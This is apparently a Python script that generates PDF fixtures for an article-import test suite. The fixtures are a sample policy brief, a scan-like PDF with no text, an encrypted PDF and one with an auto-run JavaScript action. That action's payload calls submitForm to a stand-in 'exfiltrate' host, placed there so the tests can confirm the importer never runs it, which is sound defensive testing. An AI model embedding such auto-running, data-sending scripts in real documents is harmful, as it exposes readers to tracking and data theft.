# Writes the small PDF fixtures of the PDF import tests into src-main/core/article-import/fixtures (run again after editing).
# Needs python3-reportlab and qpdf (Debian: apt-get install -y python3-reportlab qpdf). Usage: python3 scripts/make-import-fixtures.py
import os
import subprocess
import tempfile

from reportlab.lib.pagesizes import A4
from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
from reportlab.pdfgen import canvas

OUT = os.path.join(os.path.dirname(__file__), '..', 'src-main', 'core', 'article-import', 'fixtures')
WIDTH, HEIGHT = A4
LEFT = 72
BODY_SIZE = 11
LEADING = 14
HEADER = 'Institute for Peace Studies - Policy Brief 7/2026'

# Each page: a list of (kind, lines). Line breaks are explicit so that hyphenated line ends are exactly as tested.
PAGES = [
    [
        ('title', ['Security Guarantees for Ukraine']),
        ('date', ['20 January 2026']),
        ('heading', ['Background']),
        ('para', [
            'The talks in Miami were the first direct nego-',
            'tiations between the envoys since the summer. Both',
            'delegations described them as constructive.',
        ]),
        ('para', [
            'Observers noted that the so-called Trump-',
            'Putin channel remained open throughout the week, while',
            'European officials were kept informed.',
        ]),
    ],
    [
        ('heading', ['What Europe Offers']),
        ('para', [
            'European capitals proposed a reassurance force of up to',
            'twenty thousand troops, stationed away from the front',
            'line and supported by air patrols.',
        ]),
        ('indented', [
            'The proposal depends on a ceasefire that holds for at',
            'least thirty days.',
        ]),
        ('indented', [
            'Finance ministers are still discussing who would pay for',
            'the force and for the long-term recon-',
        ]),
    ],
    [
        ('continued', [
            'struction of the damaged energy grid.',
        ]),
        ('heading', ['Outlook']),
        ('para', [
            'A second round of talks is expected in Davos. Its out-',
            'come will decide whether the guarantees are written',
            'into a treaty.',
        ]),
    ],
]


def draw_page(c, number, blocks):
    c.setFont('Helvetica', 9)
    c.drawString(LEFT, HEIGHT - 40, HEADER)
    c.drawCentredString(WIDTH / 2, 30, str(number))
    y = HEIGHT - 90
    for kind, lines in blocks:
        if kind == 'title':
            c.setFont('Helvetica-Bold', 22)
            c.drawString(LEFT, y, lines[0])
            y -= 34
            continue
        if kind == 'date':
            c.setFont('Helvetica', BODY_SIZE)
            c.drawString(LEFT, y, lines[0])
            y -= LEADING * 2
            continue
        if kind == 'heading':
            c.setFont('Helvetica-Bold', 14)
            c.drawString(LEFT, y, lines[0])
            y -= 22
            continue
        c.setFont('Helvetica', BODY_SIZE)
        for i, line in enumerate(lines):
            indent = 18 if kind == 'indented' and i == 0 else 0
            c.drawString(LEFT + indent, y, line)
            y -= LEADING
        # Indented paragraphs follow each other without a gap; the others have a blank line after them.
        if kind != 'indented':
            y -= LEADING * 0.8


def running_header_pdf(path):
    c = canvas.Canvas(path, pagesize=A4, invariant=1)
    c.setTitle('')
    c.setAuthor('Institute for Peace Studies')
    for number, blocks in enumerate(PAGES, start=1):
        draw_page(c, number, blocks)
        c.showPage()
    c.save()


def javascript_pdf(path):
    """A one-page PDF whose OpenAction runs JavaScript and whose page has a link action: neither may run on import."""
    c = canvas.Canvas(path, pagesize=A4, invariant=1)
    c.setTitle('Briefing with a script')
    c.setFont('Helvetica', BODY_SIZE)
    c.drawString(LEFT, HEIGHT - 90, 'This briefing opens with a script that must never run.')
    c.linkURL('https://example.invalid/tracker', (LEFT, HEIGHT - 100, LEFT + 200, HEIGHT - 80))
    c._doc.Catalog.OpenAction = PDFDictionary({
        'S': PDFName('JavaScript'),
        'JS': PDFString("app.alert('opened'); this.submitForm('https://example.invalid/exfiltrate');"),
    })
    c.showPage()
    c.save()


def textless_pdf(path):
    """Two pages of drawings and no text at all, like a scan without OCR."""
    c = canvas.Canvas(path, pagesize=A4, invariant=1)
    for _ in range(2):
        c.setFillGray(0.3)
        for row in range(20):
            c.rect(LEFT, HEIGHT - 100 - row * 30, 300 - row * 7, 12, stroke=0, fill=1)
        c.showPage()
    c.save()


def encrypted_pdf(path):
    with tempfile.TemporaryDirectory() as tmp:
        plain = os.path.join(tmp, 'plain.pdf')
        c = canvas.Canvas(plain, pagesize=A4, invariant=1)
        c.setTitle('Confidential briefing')
        c.setFont('Helvetica', BODY_SIZE)
        c.drawString(LEFT, HEIGHT - 90, 'Only readers with the password see this sentence.')
        c.showPage()
        c.save()
        subprocess.run(['qpdf', '--encrypt', 'secret', 'owner-secret', '256', '--', plain, path], check=True)


def main():
    os.makedirs(OUT, exist_ok=True)
    running_header_pdf(os.path.join(OUT, 'brief-3-pages.pdf'))
    javascript_pdf(os.path.join(OUT, 'open-action-javascript.pdf'))
    textless_pdf(os.path.join(OUT, 'no-text-layer.pdf'))
    encrypted_pdf(os.path.join(OUT, 'encrypted-password-secret.pdf'))


if __name__ == '__main__':
    main()
